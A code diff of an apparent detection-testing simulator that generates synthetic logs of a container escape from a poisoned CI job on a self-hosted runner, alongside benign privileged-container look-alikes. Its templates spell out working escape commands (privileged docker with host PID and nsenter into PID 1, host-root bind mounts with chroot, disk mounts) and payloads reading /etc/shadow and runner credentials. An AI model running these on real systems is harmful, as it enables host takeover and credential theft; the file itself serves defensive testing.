@@ -1,59 +1,394 @@
-"""The container_escape campaign (moved unchanged from the old single module; to be converted)."""
+"""Container escape from a poisoned CI job (T1611): a workflow step on the self-hosted
+runner uses the runner's docker-group rights to start a container with the host's
+namespaces, root filesystem or disk, and steps out onto the host as root.
+
+Per instance: the poisoned script the job runs (an imitation of a repository helper)
+and the step's temporary script id; which escapes are used (one or two of: a
+privileged container in the host's PID namespace running `nsenter` into PID 1, the
+host's root bind-mounted into the container and `chroot` into it, or SYS_ADMIN /
+privileged with the host's disk mounted and chrooted into), how the flags are spelled
+(short or long options, `--mount` or `-v`, the mount point), the image (alpine, busybox,
+ubuntu, debian with tags), the disk device, what runs on the host (id, reading
+/etc/shadow, the runner's registration credentials, listing /root); timing.
+
+Look-alikes: binfmt/QEMU registration containers, BuildKit builders, docker-in-docker
+services (privileged CI containers); node-exporter and cAdvisor with host PID and a
+read-only host root (monitoring); administrators' debug containers and nsenter into a
+container's network namespace (troubleshooting).
+"""
 
 from __future__ import annotations
 
-from pytest_ctirealm.telemetry.context import SimContext
-from pytest_ctirealm.telemetry.environment import linux_host
-from pytest_ctirealm.telemetry.scenarios.base import Stages, Timeline, incident_start, scenario
-from pytest_ctirealm.telemetry.scenarios.linux.common import BASH, SH
+import datetime as dt
+
+from pytest_ctirealm.telemetry.campaign import Instance
+from pytest_ctirealm.telemetry.context import SimContext, guid, hex_string
+from pytest_ctirealm.telemetry.environment import LINUX_HOSTS, LinuxHost
+from pytest_ctirealm.telemetry.linux import Process
+from pytest_ctirealm.telemetry.scenarios.base import (
+    Stages,
+    Timeline,
+    incident_start,
+    lookalikes,
+    merge,
+    scenario,
+)
+from pytest_ctirealm.telemetry.scenarios.linux.common import BASH, SH, root_session
+
+CAMPAIGN = "container_escape"
+DOCKER = "/usr/bin/docker"
+SHIM = "/usr/bin/containerd-shim-runc-v2"
+WORKER = "/home/runner/actions-runner/bin/Runner.Worker"
+_IMAGES = (
+    "alpine:3.18",
+    "alpine:3.19",
+    "alpine:3.20",
+    "alpine:latest",
+    "busybox:1.36",
+    "busybox:latest",
+    "ubuntu:22.04",
+    "ubuntu:24.04",
+    "debian:bookworm-slim",
+)
+_SCRIPT_DIRS = ("scripts", "ci", ".github/scripts", "tools", "build")
+_SCRIPT_NAMES = (
+    "warm-cache.sh",
+    "setup-buildenv.sh",
+    "prepare-runner.sh",
+    "bootstrap-deps.sh",
+    "test-matrix.sh",
+    "fetch-fixtures.sh",
+    "lint-docker.sh",
+    "sync-artifacts.sh",
+)
+_MOUNT_POINTS = ("/host", "/hostfs", "/mnt/host", "/h", "/mnt/root")
+#: What the operator runs on the host: (image on the host, command line).
+_PAYLOADS = (
+    ("/usr/bin/id", "id"),
+    ("/usr/bin/cat", "cat /etc/shadow"),
+    ("/usr/bin/cat", "cat /home/runner/actions-runner/.credentials"),
+    ("/usr/bin/cat", "cat /home/runner/actions-runner/.credentials_rsaparams"),
+    ("/usr/bin/ls", "ls -la /root"),
+    ("/usr/bin/hostname", "hostname"),
+)
 
 
-@scenario("container_escape", "linux", ("access", "escape", "escape_runtime"))
-def container_escape(ctx: SimContext) -> Stages:
-    """A poisoned CI job on the build runner starts a privileged container sharing the
-    host's pid namespace and root filesystem, then enters the host."""
-    t = Timeline(ctx, "container_escape", linux_host("vm-build01"), incident_start(ctx, "escape"))
-    listener = t.daemon("runner")
-    worker = t.run(
-        "access",
-        listener,
-        "/home/runner/actions-runner/bin/Runner.Worker",
-        "/home/runner/actions-runner/bin/Runner.Worker spawnclient 117 120",
-    )
-    job = t.run(
-        "access",
-        worker,
-        BASH,
-        "/usr/bin/bash -e /home/runner/work/_temp/5d0c1f3e-8a1b-4c2e-9f7d-1a2b3c4d5e6f.sh",
-    )
-    t.run(
-        "escape",
-        job,
-        "/usr/bin/docker",
-        "docker run --rm --privileged --pid=host -v /:/host alpine:3.19 "
-        "nsenter -t 1 -m -u -i -n -p -- sh -c id",
-        after=(5, 20),
-    )
-    shim = t.run(
+def _shim(t: Timeline, instance: Instance, index: int) -> Process:
+    """containerd starts the container's shim (the runtime side of `docker run`)."""
+    return t.run(
         "escape_runtime",
         t.daemon("containerd"),
-        "/usr/bin/containerd-shim-runc-v2",
-        "/usr/bin/containerd-shim-runc-v2 -namespace moby -id "
-        "8c1e5a0f3b7d4e2a9c6b1d0e7f3a5c8b2e4d6f1a3c5e7b9d0f2a4c6e8b1d3f5a -address "
-        "/run/containerd/containerd.sock",
+        SHIM,
+        f"{SHIM} -namespace moby -id {instance.hex(f'container_{index}', 64)} "
+        "-address /run/containerd/containerd.sock",
         "root",
-        after=(1, 3),
+        after=(0.5, 3),
     )
-    nsenter = t.run(
-        "escape", shim, "/usr/bin/nsenter", "nsenter -t 1 -m -u -i -n -p -- sh -c id", "root"
+
+
+def _payload(instance: Instance, index: int) -> tuple[str, str]:
+    image, command = instance.pick(f"payload_{index}", _PAYLOADS)
+    if instance.chance(0.5):
+        return SH, f"sh -c {command}"
+    return image, command
+
+
+def _escape(t: Timeline, instance: Instance, job: Process, technique: str, index: int) -> None:
+    """One container launch that steps out onto the host, and what it runs there."""
+    image = instance.pick(f"image_{index}", _IMAGES)
+    host_image, payload = _payload(instance, index)
+    if technique == "pid1_nsenter":
+        enter = instance.pick(
+            f"nsenter_form_{index}",
+            (
+                "nsenter -t 1 -m -u -i -n -p --",
+                "nsenter --target 1 --mount --uts --ipc --net --pid --",
+                "nsenter -t 1 -a",
+                "nsenter -t 1 -m -p --",
+            ),
+        )
+        flags = instance.pick(
+            f"flags_{index}",
+            (
+                "--rm --privileged --pid=host",
+                "--rm --pid=host --privileged --net=host",
+                "--privileged --pid host --rm",
+                "-i --rm --privileged --pid=host --userns=host",
+            ),
+        )
+        t.run("escape", job, DOCKER, f"docker run {flags} {image} {enter} {payload}", after=(5, 40))
+        shim = _shim(t, instance, index)
+        inside = t.run("escape", shim, "/usr/bin/nsenter", f"{enter} {payload}", "root")
+        t.run("escape", inside, host_image, payload, "root")
+    elif technique == "hostfs_chroot":
+        point = instance.pick(f"mount_point_{index}", _MOUNT_POINTS)
+        bind = instance.pick(
+            f"bind_{index}",
+            (f"-v /:{point}", f"--volume=/:{point}", f"--mount type=bind,source=/,target={point}"),
+        )
+        privileged = instance.pick(f"privileged_{index}", ("--privileged ", ""))
+        t.run(
+            "escape",
+            job,
+            DOCKER,
+            f"docker run --rm {privileged}{bind} {image} chroot {point} {payload}",
+            after=(5, 40),
+        )
+        shim = _shim(t, instance, index)
+        inside = t.run("escape", shim, "/usr/sbin/chroot", f"chroot {point} {payload}", "root")
+        t.run("escape", inside, host_image, payload, "root")
+    else:
+        device = instance.pick(f"disk_{index}", ("/dev/sda1", "/dev/nvme0n1p1"))
+        point = instance.pick(f"mount_point_{index}", _MOUNT_POINTS)
+        rights = instance.pick(
+            f"rights_{index}",
+            (
+                f"--cap-add SYS_ADMIN --security-opt apparmor=unconfined --device {device}",
+                f"--cap-add=SYS_ADMIN --cap-add=MKNOD --device={device}",
+                "--privileged",
+            ),
+        )
+        script = f"mkdir -p {point} && mount {device} {point} && chroot {point} {payload}"
+        t.run(
+            "escape", job, DOCKER, f"docker run --rm {rights} {image} sh -c {script}", after=(5, 40)
+        )
+        shim = _shim(t, instance, index)
+        shell = t.run("escape", shim, "/bin/sh", f"sh -c {script}", "root")
+        t.run("escape_runtime", shell, "/bin/mkdir", f"mkdir -p {point}")
+        t.run("escape", shell, "/bin/mount", f"mount {device} {point}")
+        inside = t.run("escape", shell, "/usr/sbin/chroot", f"chroot {point} {payload}")
+        t.run("escape", inside, host_image, payload, "root")
+
+
+@scenario(CAMPAIGN, "linux", ("access", "escape", "escape_runtime"))
+def container_escape(ctx: SimContext) -> Stages:
+    """A poisoned workflow step on the build runner breaks out through docker twice."""
+    instance = Instance(ctx, CAMPAIGN)
+    host = instance.linux_host("host", ("build",))
+    t = Timeline(ctx, CAMPAIGN, host, incident_start(ctx, "escape", (0, 22)))
+    worker = t.run(
+        "access",
+        t.daemon("runner"),
+        WORKER,
+        f"{WORKER} spawnclient {instance.between(100, 199)} {instance.between(100, 199)}",
     )
-    t.run("escape", nsenter, SH, "sh -c id", "root")
-    t.run(
-        "escape",
-        job,
-        "/usr/bin/docker",
-        "docker run --rm --privileged -v /:/host alpine:3.19 chroot /host /bin/sh -c "
-        "cat /etc/shadow",
-        after=(10, 30),
+    step = instance.keep("step_script", guid(instance.rng))
+    job = t.run("access", worker, BASH, f"/usr/bin/bash -e /home/runner/work/_temp/{step}.sh")
+    script = instance.name_like("poisoned_script", _SCRIPT_DIRS, _SCRIPT_NAMES, joiner="/")
+    poisoned = t.run("access", job, BASH, f"bash ./{script}", after=(1, 10))
+    techniques = instance.sample(
+        "techniques", ("pid1_nsenter", "hostfs_chroot", "disk_mount"), instance.between(1, 2)
     )
+    for index in range(2):
+        _escape(t, instance, poisoned, techniques[index % len(techniques)], index)
     return t.stages
+
+
+# -- look-alikes ---------------------------------------------------------------------------
+
+
+def _office_times(ctx: SimContext, t: Timeline, low: int, high: int) -> list[dt.datetime]:
+    """Between *low* and *high* office-hour instants on each day of the window, in order
+    (the volume grows with the window)."""
+    return sorted(
+        ctx.office_time(t.rng, day)
+        for day in ctx.day_range()
+        for _ in range(t.rng.randint(low, high))
+    )
+
+
+def _family(ctx: SimContext, family: str, host: LinuxHost) -> Timeline:
+    return Timeline(ctx, f"lookalike/{CAMPAIGN}/{family}/{host.name}", host, ctx.start)
+
+
+def _ci_step(t: Timeline, stage: str) -> Process:
+    """A CI job's step script on the runner."""
+    worker = t.run(
+        stage,
+        t.daemon("runner"),
+        WORKER,
+        f"{WORKER} spawnclient {t.rng.randrange(100, 200)} {t.rng.randrange(100, 200)}",
+        "runner",
+    )
+    return t.run(stage, worker, BASH, f"/usr/bin/bash -e /home/runner/work/_temp/{guid(t.rng)}.sh")
+
+
+def _container(t: Timeline, stage: str, image: str, command: str) -> Process:
+    """The runtime side of a container start: the shim and the entry process."""
+    shim = t.run(
+        stage,
+        t.daemon("containerd"),
+        SHIM,
+        f"{SHIM} -namespace moby -id {hex_string(t.rng, 64)} -address /run/containerd/containerd.sock",
+        "root",
+        after=(0.5, 3),
+    )
+    return t.run(stage, shim, image, command, "root")
+
+
+_BINFMT = (
+    (
+        "docker run --privileged --rm tonistiigi/binfmt:qemu-v8.1.5 --install arm64,riscv64",
+        "/usr/bin/binfmt",
+        "binfmt --install arm64,riscv64",
+    ),
+    (
+        "docker run --rm --privileged multiarch/qemu-user-static --reset -p yes",
+        "/register",
+        "/register --reset -p yes",
+    ),
+    (
+        "docker run --privileged --rm tonistiigi/binfmt --install arm64",
+        "/usr/bin/binfmt",
+        "binfmt --install arm64",
+    ),
+)
+_DIND_VERSIONS = ("24.0", "25.0", "26.1", "27.3")
+_MONITORING = (
+    (
+        "docker run -d --restart unless-stopped --name node-exporter --net=host --pid=host "
+        "-v /:/host:ro,rslave quay.io/prometheus/node-exporter:v1.8.2 --path.rootfs=/host",
+        "/bin/node_exporter",
+        "/bin/node_exporter --path.rootfs=/host",
+    ),
+    (
+        "docker run -d --restart unless-stopped --name cadvisor --privileged --device=/dev/kmsg "
+        "-v /:/rootfs:ro -v /var/run:/var/run:ro -v /sys:/sys:ro -v /var/lib/docker/:/var/lib/docker:ro "
+        "-p 8080:8080 gcr.io/cadvisor/cadvisor:v0.49.1",
+        "/usr/bin/cadvisor",
+        "/usr/bin/cadvisor -logtostderr",
+    ),
+)
+_DEBUG = (
+    ("docker run --rm -it --net=host nicolaka/netshoot tcpdump -ni eth0 port 443 -c 200", None),
+    ("docker run --rm -it --pid=container:{name} --cap-add SYS_PTRACE nicolaka/netshoot", None),
+    ("docker run --rm -it --network container:{name} nicolaka/netshoot ss -tnp", None),
+    ("docker exec -it {name} sh", None),
+    ("docker inspect -f {{{{.State.Pid}}}} {name}", "nsenter"),
+)
+_CONTAINERS = ("portal-api", "worker", "redis", "otel-collector", "nginx-proxy")
+
+
+def _ci_lookalikes(ctx: SimContext) -> list[Timeline]:
+    timelines = []
+    for host in [h for h in LINUX_HOSTS if h.role == "build"]:
+        # Multi-arch builds registering QEMU handlers through a privileged container.
+        t = _family(ctx, "binfmt_qemu", host)
+        for moment in _office_times(ctx, t, 1, 3):
+            t.at(moment)
+            step = _ci_step(t, "binfmt_qemu")
+            command, image, entry = t.rng.choice(_BINFMT)
+            t.run("binfmt_qemu", step, DOCKER, command)
+            _container(t, "binfmt_qemu", image, entry)
+        timelines.append(t)
+        # BuildKit builders for buildx (privileged containers started by the CLI plugin).
+        t = _family(ctx, "buildx_builder", host)
+        for moment in _office_times(ctx, t, 1, 2):
+            t.at(moment)
+            step = _ci_step(t, "buildx_builder")
+            name = f"ci-builder-{hex_string(t.rng, 6)}"
+            t.run(
+                "buildx_builder",
+                step,
+                DOCKER,
+                f"docker buildx create --name {name} --driver docker-container --use",
+            )
+            _container(
+                t,
+                "buildx_builder",
+                "/usr/bin/buildkitd",
+                "buildkitd --allow-insecure-entitlement=network.host",
+            )
+            t.run(
+                "buildx_builder",
+                step,
+                DOCKER,
+                "docker buildx build --platform linux/amd64,linux/arm64 "
+                f"-t contosoacr.azurecr.io/portal:{hex_string(t.rng, 7)} --push .",
+                after=(5, 30),
+            )
+        timelines.append(t)
+        # Docker-in-docker services for integration tests.
+        t = _family(ctx, "dind_service", host)
+        for moment in _office_times(ctx, t, 1, 2):
+            t.at(moment)
+            step = _ci_step(t, "dind_service")
+            version = t.rng.choice(_DIND_VERSIONS)
+            name = f"dind-{hex_string(t.rng, 8)}"
+            t.run(
+                "dind_service",
+                step,
+                DOCKER,
+                f"docker run --privileged -d --name {name} -e DOCKER_TLS_CERTDIR=/certs "
+                f"-v {name}-certs:/certs docker:{version}-dind",
+            )
+            entrypoint = _container(
+                t,
+                "dind_service",
+                "/usr/local/bin/dockerd-entrypoint.sh",
+                "/bin/sh /usr/local/bin/dockerd-entrypoint.sh",
+            )
+            t.run(
+                "dind_service",
+                entrypoint,
+                "/usr/local/bin/dockerd",
+                "dockerd --host=unix:///var/run/docker.sock --host=tcp://0.0.0.0:2376 --tlsverify",
+            )
+            t.run("dind_service", step, DOCKER, f"docker rm -f {name}", after=(60, 600))
+        timelines.append(t)
+    return timelines
+
+
+def _host_lookalikes(ctx: SimContext) -> list[Timeline]:
+    timelines = []
+    for host in LINUX_HOSTS:
+        # Monitoring containers with the host's PID namespace and a read-only host root,
+        # (re)started by their systemd units.
+        t = _family(ctx, "node_monitoring", host)
+        if host.role == "build" or t.rng.random() < 0.5:
+            agents = t.rng.sample(_MONITORING, t.rng.randint(1, 2))
+            for day in ctx.day_range():
+                for command, image, entry in agents:
+                    if t.rng.random() < 0.3 and host.role != "build":
+                        continue
+                    t.at(ctx.any_time(t.rng, day))
+                    t.run("node_monitoring", t.daemon("systemd"), DOCKER, command, "root")
+                    _container(t, "node_monitoring", image, entry)
+        timelines.append(t)
+        # Administrators troubleshooting containers: debug images and nsenter into a
+        # container's network namespace.
+        t = _family(ctx, "admin_debug", host)
+        if host.role in ("build", "web", "app") or t.rng.random() < 0.3:
+            for moment in _office_times(ctx, t, 1 if host.role == "build" else 0, 1):
+                t.at(moment)
+                root = root_session(t, t.rng.choice(host.admin_users), stage="admin_debug")
+                name = t.rng.choice(_CONTAINERS)
+                for template, follow in t.rng.sample(_DEBUG, t.rng.randint(1, 2)):
+                    t.run("admin_debug", root, DOCKER, template.format(name=name), after=(5, 60))
+                    if follow == "nsenter":
+                        pid = t.rng.randrange(3000, 90000)
+                        tool, command = t.rng.choice(
+                            (
+                                ("/usr/bin/ss", "ss -tlnp"),
+                                ("/usr/sbin/ip", "ip addr"),
+                                ("/usr/bin/cat", "cat /etc/resolv.conf"),
+                            )
+                        )
+                        enter = t.run(
+                            "admin_debug",
+                            root,
+                            "/usr/bin/nsenter",
+                            f"nsenter -t {pid} -n {command}",
+                            after=(5, 30),
+                        )
+                        t.run("admin_debug", enter, tool, command)
+        timelines.append(t)
+    return timelines
+
+
+@lookalikes(
+    CAMPAIGN,
+    ("binfmt_qemu", "buildx_builder", "dind_service", "node_monitoring", "admin_debug"),
+)
+def container_escape_lookalikes(ctx: SimContext) -> Stages:
+    return merge(*_ci_lookalikes(ctx), *_host_lookalikes(ctx))
